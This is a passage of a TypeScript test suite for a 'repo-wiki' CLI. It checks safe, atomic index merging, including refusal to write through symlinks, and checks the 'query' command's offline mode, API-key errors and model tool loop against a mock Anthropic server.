        assert.equal(result.code, 1);
        assert.match(result.stderr, /^repo-wiki: cannot merge \.wiki\/index\.md: theirs: line 8 is not a page entry/);
        assert.equal(fs.readFileSync(ours, 'utf8'), good);
      });

      it('refuses to write through OURS when it is a symbolic link', () => {
        const [base, target, theirs] = sides(catalog([]), catalog([]), catalog([entry('b')]));
        const link = path.join(path.dirname(base), 'ours-link.json');
        fs.symlinkSync(target, link);
        const result = run(['index', 'merge', base, link, theirs, '.wiki/index.json']);
        assert.equal(result.code, 2);
        assert.match(result.stderr, /^repo-wiki: cannot read .*ours-link\.json: it is a symbolic link/);
        assert.equal(fs.readFileSync(target, 'utf8'), catalog([]));
        assert.ok(fs.lstatSync(link).isSymbolicLink());
      });

      it('writes the merge to OURS through a temp file, keeping its mode and leaving no temp behind', () => {
        const [base, ours, theirs] = sides(catalog([entry('a')]), catalog([entry('a'), entry('c')]), catalog([entry('a'), entry('b')]));
        fs.chmodSync(ours, 0o640);
        const result = run(['index', 'merge', base, ours, theirs, '.wiki/index.json']);
        assert.equal(result.code, 0, result.stderr);
        assert.equal(fs.readFileSync(ours, 'utf8'), catalog([entry('a'), entry('b'), entry('c')]));
        if (process.platform !== 'win32') assert.equal(fs.statSync(ours).mode & 0o777, 0o640);
        assert.deepEqual(fs.readdirSync(path.dirname(ours)).sort(), ['base.json', 'ours.json', 'theirs.json']);
      });
    });
  });

  describe('query', () => {
    const { startMockAnthropic } = require(path.resolve(__dirname, '../../../../test/harness/mockAnthropic.cjs'));

    function runAsync(args: string[], env: Record<string, string | undefined>): Promise<{ code: number | null; stdout: string; stderr: string }> {
      const child = spawn(process.execPath, [CLI, ...args], { env: { ...process.env, ANTHROPIC_API_KEY: undefined, ANTHROPIC_BASE_URL: undefined, ...env } });
      let stdout = '';
      let stderr = '';
      child.stdout.on('data', (d) => (stdout += d));
      child.stderr.on('data', (d) => (stderr += d));
      return new Promise((resolve) => child.on('close', (code) => resolve({ code, stdout, stderr })));
    }

    it('answers offline from retrieval and prints the pages in retrieval order as JSON', async () => {
      const result = await runAsync(['query', 'How do errors become HTTP responses?', '--workspace', DEMO, '--format', 'json'], {});
      assert.equal(result.code, 0, result.stderr);
      const answer = JSON.parse(result.stdout);
      assert.deepEqual(Object.keys(answer), ['answer', 'offline', 'model', 'attempts', 'pages', 'steps', 'unverified', 'usage']);
      assert.deepEqual(answer.steps, []);
      assert.equal(answer.offline, true);
      assert.match(answer.answer, /^\*\*Offline answer\*\*/);
      assert.equal(answer.pages[0].slug, 'errors-become-responses-at-the-edge');
      const scores = answer.pages.map((p: { score: number }) => p.score);
      assert.deepEqual(scores, [...scores].sort((a, b) => b - a));
    });

    it('without a key, answers offline and names the environment variable to set, not a VS Code command', async () => {
      const result = await runAsync(['query', 'How do errors become HTTP responses?', '--workspace', DEMO], {});
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stdout, /^\*\*Offline answer\*\*/);
      assert.match(result.stdout, /name a model with --model provider\/model .*ANTHROPIC_API_KEY.*\(anthropic\/claude-sonnet-5-5: no API key \(ANTHROPIC_API_KEY is not set/);
      assert.doesNotMatch(result.stdout + result.stderr, /Repo Wiki:|Set API key/);
      const json = await runAsync(['query', 'How do errors become HTTP responses?', '--workspace', DEMO, '--format', 'json'], {});
      assert.match(JSON.parse(json.stdout).answer, /name a model with --model provider\/model .*ANTHROPIC_API_KEY/);
    });

    it('asks the model through the real SDK when a key is set, with the chat prompt', async () => {
      const mock = await startMockAnthropic({ validKey: 'sk-ant-cli-key-1' });
      try {
        mock.script({ text: 'Errors are thrown and turned into responses in [[errors-become-responses-at-the-edge]].' });
        const result = await runAsync(['query', 'How do errors become HTTP responses?', '--workspace', DEMO], { ANTHROPIC_API_KEY: 'sk-ant-cli-key-1', ANTHROPIC_BASE_URL: mock.url });
        assert.equal(result.code, 0, result.stderr);
        assert.match(result.stdout, /^Errors are thrown and turned into responses in \[\[errors-become-responses-at-the-edge\]\]\.\n/);
        assert.match(result.stdout, /Pages used: \[\[errors-become-responses-at-the-edge\]\]/);
        const body = mock.requests[0].body;
        assert.equal(body.system[1].cache_control.type, 'ephemeral');
        const last = body.messages.at(-1).content;
        assert.match(typeof last === 'string' ? last : last.map((block: { text?: string }) => block.text ?? '').join('\n'), /<page slug="errors-become-responses-at-the-edge"/);
        assert.deepEqual(body.tools.map((tool: { name: string }) => tool.name), ['search_wiki', 'read_page', 'read_code', 'find_symbol', 'grep_code', 'check_drift', 'repo_map']);
        const offline = await runAsync(['query', 'How do errors become HTTP responses?', '--workspace', DEMO, '--offline', '--format', 'json'], { ANTHROPIC_API_KEY: 'sk-ant-cli-key-1', ANTHROPIC_BASE_URL: mock.url });
        assert.equal(JSON.parse(offline.stdout).offline, true);
        assert.equal(mock.requests.length, 1, '--offline sends nothing');
      } finally {
        await mock.close();
      }
    });

    it('with a key runs the tool loop: the model reads the code, and --format json lists the steps', async () => {
      const mock = await startMockAnthropic({ validKey: 'sk-ant-cli-key-2' });
      try {
        mock.script(
          { toolUses: [{ name: 'read_code', input: { citation: 'src/errors.ts:toErrorResponse' } }, { name: 'read_code', input: { citation: '../outside.ts' } }] },
          { text: 'It is `src/errors.ts:toErrorResponse`; `src/gone.ts:Nope` is not.' },
        );
        const result = await runAsync(['query', 'What turns an error into a status code?', '--workspace', DEMO, '--format', 'json'], { ANTHROPIC_API_KEY: 'sk-ant-cli-key-2', ANTHROPIC_BASE_URL: mock.url });
        assert.equal(result.code, 0, result.stderr);
        const answer = JSON.parse(result.stdout);
        assert.deepEqual(answer.steps, [
          { tool: 'read_code', input: { citation: 'src/errors.ts:toErrorResponse' }, ok: true },
          { tool: 'read_code', input: { citation: '../outside.ts' }, ok: false },
        ]);
        assert.deepEqual(answer.unverified, ['src/gone.ts:Nope']);
        const results = mock.requests[1].body.messages.at(-1).content;
        assert.match(results[0].content, /function toErrorResponse/);
        assert.equal(results[1].is_error, true);
        const text = await runAsync(['query', 'What turns an error into a status code?', '--workspace', DEMO], { ANTHROPIC_API_KEY: 'sk-ant-cli-key-2', ANTHROPIC_BASE_URL: mock.url });
        assert.equal(text.code, 0, text.stderr);
        assert.doesNotMatch(text.stdout, /read_code|Read /, 'steps go to stderr; stdout is the answer');
      } finally {
        await mock.close();
      }
    });

    it('a rejected key exits 2 with the next step, and without the key', async () => {
      const mock = await startMockAnthropic({ validKey: 'sk-ant-right-key' });
      try {
        const result = await runAsync(['query', 'anything', '--workspace', DEMO], { ANTHROPIC_API_KEY: 'sk-ant-wrong-key', ANTHROPIC_BASE_URL: mock.url });
        assert.equal(result.code, 2);
        assert.match(result.stderr, /API key was rejected/);
        assert.doesNotMatch(result.stderr + result.stdout, /sk-ant-wrong-key/);
      } finally {
        await mock.close();
      }
    });
  });
});
